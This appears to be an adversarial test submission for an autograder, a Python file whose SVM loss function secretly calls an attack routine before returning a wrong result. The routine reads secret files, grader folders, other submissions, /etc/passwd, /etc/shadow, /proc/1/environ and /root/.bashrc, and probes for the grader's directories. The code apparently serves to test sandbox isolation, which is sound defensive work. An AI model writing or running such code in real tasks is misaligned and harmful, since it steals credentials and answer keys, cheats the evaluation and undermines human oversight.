"""Reads whatever it can find: tests, the reference, secrets, other submissions."""

import glob
import os

import kit
from targets import TARGETS


@kit.once
def attack():
    for path in TARGETS["secret_files"]:
        kit.loot(path)
    for folder in TARGETS["folders"]:
        for path in glob.glob(f"{glob.escape(folder)}/**/*", recursive=True)[:100]:
            kit.loot(path)
    private = {os.path.basename(folder) for folder in TARGETS["folders"]}
    for folder in ("/", "/autograder", "/root", "/home", "..", "../..", "/etc", "/tmp"):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        if private & set(names):
            kit.harm(f"{folder} shows the folders of the grader")
    for path in ("/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/mounts", "/root/.bashrc"):
        kit.loot(path)


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
